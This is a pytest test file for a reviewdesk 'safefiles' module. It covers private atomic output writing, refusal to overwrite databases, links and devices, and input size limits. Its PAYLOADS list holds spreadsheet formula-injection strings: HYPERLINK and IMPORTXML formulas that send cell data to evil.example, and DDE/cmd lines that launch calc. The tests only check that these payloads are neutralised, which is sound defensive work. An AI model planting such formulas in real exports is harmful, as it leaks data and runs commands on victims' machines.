"""Output files: written whole, mode 600 whatever the umask, never over the database or into
the data folder; spreadsheet cells neutralised against formula injection."""

from __future__ import annotations

import datetime as dt
import os
import stat
from pathlib import Path

import pytest

from reviewdesk import safefiles
from reviewdesk.errors import InvalidInput
from reviewdesk.storage.db import open_database


@pytest.fixture(autouse=True)
def data_folder(tmp_path, monkeypatch) -> Path:
    monkeypatch.setenv("XDG_DATA_HOME", str(tmp_path / "xdg"))
    monkeypatch.delenv("REVIEWDESK_DB", raising=False)
    return tmp_path / "xdg" / "reviewdesk"


@pytest.fixture
def umask():
    """Run with a given umask (the real one, as the process has it), restored afterwards."""
    old = os.umask(0o022)
    yield lambda mask: os.umask(mask)
    os.umask(old)


def _mode(path: Path) -> int:
    return stat.S_IMODE(os.stat(path).st_mode)


def _leftovers(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if safefiles.TEMP_SUFFIX in p.name)


# --- neutralising cells ---------------------------------------------------------------------

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    '=IMPORTXML(CONCAT("http://evil.example/?", A2), "//a")',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
    "+44 20 7946 0000",
    "-",
    "@",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(payload):
    assert safefiles.is_formula_like(payload)
    assert safefiles.neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize(
    "value",
    [-5, 0, 3.25, -0.5, True, None, dt.date(2025, 1, 6), "Zoë Ó Briain", "C-1", " =1", "'=1", ""],
)
def test_numbers_dates_and_plain_text_are_left_alone(value):
    assert not safefiles.is_formula_like(value)
    assert safefiles.neutralise_cell(value) == value


# --- modes and atomic writing -----------------------------------------------------------------


@pytest.mark.parametrize("mask", [0o022, 0o000, 0o077])
def test_outputs_are_private_whatever_the_umask(tmp_path, umask, mask):
    umask(mask)
    text = safefiles.write_output(tmp_path / "a.csv", "x,y\n")
    assert _mode(text) == 0o600
    with safefiles.output_file(tmp_path / "b.bin") as fh:
        fh.write(b"\x00\x01")
    assert _mode(tmp_path / "b.bin") == 0o600
    with safefiles.private_file(tmp_path / "c.jsonl", "w", encoding="utf-8") as fh:
        fh.write("{}\n")
    assert _mode(tmp_path / "c.jsonl") == 0o600
    assert _leftovers(tmp_path) == []


def test_replacing_a_readable_file_makes_it_private(tmp_path, umask):
    umask(0o000)
    path = tmp_path / "old.csv"
    path.write_text("old\n")
    os.chmod(path, 0o666)
    safefiles.write_output(path, "new\n")
    assert path.read_text() == "new\n"
    assert _mode(path) == 0o600


def test_a_failure_while_writing_leaves_the_old_file_and_no_temporary(tmp_path):
    path = tmp_path / "schedule.csv"
    path.write_text("the good copy\n")
    with pytest.raises(RuntimeError), safefiles.output_file(path, "w", encoding="utf-8") as fh:
        fh.write("half a fi")
        raise RuntimeError("disk full")
    assert path.read_text() == "the good copy\n"
    assert _leftovers(tmp_path) == []


def test_a_caller_may_discard_what_it_was_writing(tmp_path):
    path = tmp_path / "copy.bak"
    with safefiles.atomic_path(path) as temp:
        temp.write_bytes(b"same as the last one")
        temp.unlink()
    assert not path.exists() and _leftovers(tmp_path) == []


def test_temporaries_of_dead_writers_are_removed_and_live_ones_kept(tmp_path):
    dead_pid = 2**22 + 12345  # above Linux's pid_max default: no such process
    dead = tmp_path / f".db.sqlite.before-upgrade-x.bak.{dead_pid}-abc123.part"
    journal = tmp_path / f".db.sqlite.before-upgrade-x.bak.{dead_pid}-abc123.part-journal"
    live = tmp_path / f".db.sqlite.before-upgrade-y.bak.{os.getppid()}-def456.part"
    other = tmp_path / ".db.sqlite.notes.part"  # not named by us: left alone
    for p in (dead, journal, live, other):
        p.write_bytes(b"x")
    removed = safefiles.remove_stale_temporaries(tmp_path, ".db.sqlite.")
    assert sorted(removed) == sorted([dead, journal])
    assert live.exists() and other.exists()


# --- where outputs may not go -----------------------------------------------------------------


@pytest.fixture
def live(tmp_path):
    """A database in use (opened by the app, so registered)."""
    db = open_database(tmp_path / "live.sqlite")
    yield db.sqlite_path
    db.dispose()


def _refused(path, match: str, **kwargs) -> None:
    with pytest.raises(InvalidInput, match=match):
        safefiles.check_output(path, **kwargs)
    with pytest.raises(InvalidInput, match=match):
        safefiles.write_output(path, "x")


def test_the_database_in_use_is_never_written_over(live, tmp_path):
    before = live.read_bytes()
    link = tmp_path / "link.csv"
    link.symlink_to(live)
    hard = tmp_path / "hard.csv"
    os.link(live, hard)
    for spelling in (
        live,
        tmp_path / "." / "live.sqlite",
        tmp_path / "sub" / ".." / "live.sqlite",
        link,
        hard,
        Path(f"{live}-wal"),
        Path(f"{live}-shm"),
    ):
        if spelling.parent.name == "sub":
            (tmp_path / "sub").mkdir(exist_ok=True)
        _refused(spelling, "database in use")
    assert live.read_bytes() == before
    # not even by a backup, which may replace other databases
    _refused(live, "database in use", may_replace_database=True)


def test_a_database_is_free_again_once_closed(tmp_path):
    db = open_database(tmp_path / "x.sqlite")
    db.dispose()
    db.dispose()  # twice is harmless
    with pytest.raises(InvalidInput, match="is a database"):  # still a database, though
        safefiles.check_output(tmp_path / "x.sqlite")
    assert safefiles.check_output(tmp_path / "x.sqlite", may_replace_database=True)


def test_a_database_named_by_the_caller_is_protected_too(tmp_path):
    path = tmp_path / "closed.sqlite"
    path.write_bytes(b"")
    with pytest.raises(InvalidInput, match="database in use"):
        safefiles.check_output(path, may_replace_database=True, databases=[path])


def test_another_sqlite_file_is_not_overwritten_by_an_export(tmp_path):
    other = tmp_path / "other-app.sqlite"
    other.write_bytes(safefiles.SQLITE_MAGIC + b"\x00" * 84)
    _refused(other, "is a database")


def test_nothing_goes_in_the_data_folder_but_documents(data_folder):
    db = open_database(None)  # the default database, in the data folder
    db.dispose()
    _refused(data_folder / "export.csv", "data folder")
    _refused(data_folder / "reviewdesk.sqlite.before-upgrade-x.bak", "data folder")
    documents = data_folder / "documents"
    documents.mkdir()
    assert safefiles.write_output(documents / "weekly.pdf", b"%PDF") == documents / "weekly.pdf"


def test_folders_and_missing_folders_are_named(tmp_path):
    (tmp_path / "afile").write_text("x")
    _refused(tmp_path, "is a folder")
    _refused(tmp_path / "missing" / "x.csv", "does not exist")
    _refused(tmp_path / "afile" / "x.csv", "is not a folder")
    assert not (tmp_path / "missing").exists()


def test_a_link_a_device_or_a_pipe_is_not_replaced_by_a_plain_file(tmp_path):
    """An export to a link replaced the link by a plain file (its target untouched), one to
    /dev/full replaced the device (as root), and one to a named pipe hung."""
    target = tmp_path / "target.txt"
    target.write_text("kept")
    (tmp_path / "link.csv").symlink_to(target)
    os.mkfifo(tmp_path / "pipe.csv")
    for path in (tmp_path / "link.csv", tmp_path / "pipe.csv", Path("/dev/null")):
        _refused(path, "is a link or a device, not a plain file")
    with pytest.raises(InvalidInput):
        safefiles.write_output(tmp_path / "link.csv", "a,b\n")
    assert (tmp_path / "link.csv").is_symlink() and target.read_text() == "kept"
    assert stat.S_ISFIFO(os.stat(tmp_path / "pipe.csv").st_mode)


def test_copy_output_copies_whole(tmp_path):
    source = tmp_path / "doc.pdf"
    source.write_bytes(b"%PDF-1.4" + bytes(range(256)) * 5000)
    target = safefiles.copy_output(source, tmp_path / "mine.pdf")
    assert target.read_bytes() == source.read_bytes() and _mode(target) == 0o600


# --- files to read ----------------------------------------------------------------------------


def test_an_input_that_is_not_a_plain_file_is_refused_before_it_is_opened(tmp_path):
    """A named pipe given to read (as --db, a return to import, a rules file, a backup to
    restore) hung the command: opening it waits for a writer. Folders, pipes, devices and
    sockets, and links to them, are refused by name without being opened."""
    import socket

    os.mkfifo(tmp_path / "pipe.toml")
    (tmp_path / "link.toml").symlink_to(tmp_path / "pipe.toml")
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(tmp_path / "s.sock"))
    try:
        for path, kind in [
            (tmp_path / "pipe.toml", "a named pipe"),
            (tmp_path / "link.toml", "a named pipe"),
            (Path("/dev/zero"), "a device"),
            (tmp_path, "a folder"),
            (tmp_path / "s.sock", "a socket"),
        ]:
            with pytest.raises(InvalidInput) as refused:
                safefiles.check_input(path, label="--rules")
            assert (
                str(refused.value) == f"--rules: {path} is {kind}, not a file; give a file to read"
            )
    finally:
        server.close()


def test_a_plain_file_or_nothing_there_passes_the_input_check(tmp_path):
    (tmp_path / "rules.toml").write_text("")
    (tmp_path / "link.toml").symlink_to(tmp_path / "rules.toml")
    for name in ("rules.toml", "link.toml", "missing.toml", "rules.toml/under-a-file"):
        assert safefiles.check_input(tmp_path / name) == tmp_path / name


def test_a_small_input_is_read_as_read_text_reads_it(tmp_path):
    path = tmp_path / "council.toml"
    path.write_bytes('title = "Révision"\r\nx = 1\r\n'.encode())
    text = safefiles.read_input_text(path, limit=64, what="rules file")
    assert text == path.read_text(encoding="utf-8") == 'title = "Révision"\nx = 1\n'
    with pytest.raises(FileNotFoundError):
        safefiles.read_input_text(tmp_path / "absent.toml", limit=64, what="rules file")


def test_an_input_larger_than_its_limit_is_refused_naming_it_and_the_limit(tmp_path):
    """A rules file was read whole, however large: /dev/zero or a huge file grew the memory
    without end. A file over the limit is refused before it is read."""
    path = tmp_path / "huge.toml"
    with path.open("wb") as fh:
        fh.truncate(4 * 1024 * 1024 + 1)  # sparse: nothing written
    with pytest.raises(InvalidInput) as refused:
        safefiles.read_input_text(path, limit=4 * 1024 * 1024, what="rules file")
    assert str(refused.value) == f"{path} is larger than 4 MB, the most a rules file may be"
    path.write_bytes(b"x" * 1024)
    assert len(safefiles.read_input_text(path, limit=1024, what="rules file")) == 1024
    with pytest.raises(InvalidInput, match="larger than 1,023 bytes"):
        safefiles.read_input_text(path, limit=1023, what="rules file")
    with pytest.raises(InvalidInput, match="/dev/zero is a device"):
        safefiles.read_input_text("/dev/zero", limit=1024, what="rules file")


@pytest.mark.skipif(not Path("/proc/self/environ").is_file(), reason="no /proc")
def test_an_input_whose_size_says_nothing_is_still_read_no_further_than_the_limit():
    """A file whose size the system gives as 0 (those of /proc) is still cut at the limit."""
    with pytest.raises(InvalidInput, match="larger than 1 byte, the most"):
        safefiles.read_input_text("/proc/self/environ", limit=1, what="rules file")


def test_several_outputs_are_written_all_or_none(tmp_path, monkeypatch):
    (tmp_path / "b.eml").mkdir()
    with pytest.raises(InvalidInput, match="b.eml is a folder"):
        safefiles.write_outputs([(tmp_path / "a.eml", b"a"), (tmp_path / "b.eml", b"b")])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.eml"]
    with pytest.raises(InvalidInput, match="c.eml would be written twice"):
        safefiles.write_outputs([(tmp_path / "c.eml", b"1"), (tmp_path / "./c.eml", b"2")])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.eml"]

    real_replace, renamed = os.replace, []

    def full_disk_on_the_second(source, target):
        if renamed:
            raise OSError(28, "No space left on device")
        renamed.append(target)
        real_replace(source, target)

    written = safefiles.write_outputs([(tmp_path / "x.eml", b"x"), (tmp_path / "y.eml", b"y")])
    assert [p.read_bytes() for p in written] == [b"x", b"y"]
    assert all(_mode(p) == 0o600 for p in written) and _leftovers(tmp_path) == []
    # A rename failing part way (rare: each is within one folder) names the file and leaves
    # no temporary; the files renamed before it stay.
    monkeypatch.setattr(safefiles.os, "replace", full_disk_on_the_second)
    with pytest.raises(InvalidInput, match="p.eml: cannot write it"):
        safefiles.write_outputs([(tmp_path / "p.eml", b"p"), (tmp_path / "q.eml", b"q")])
    assert _leftovers(tmp_path) == []
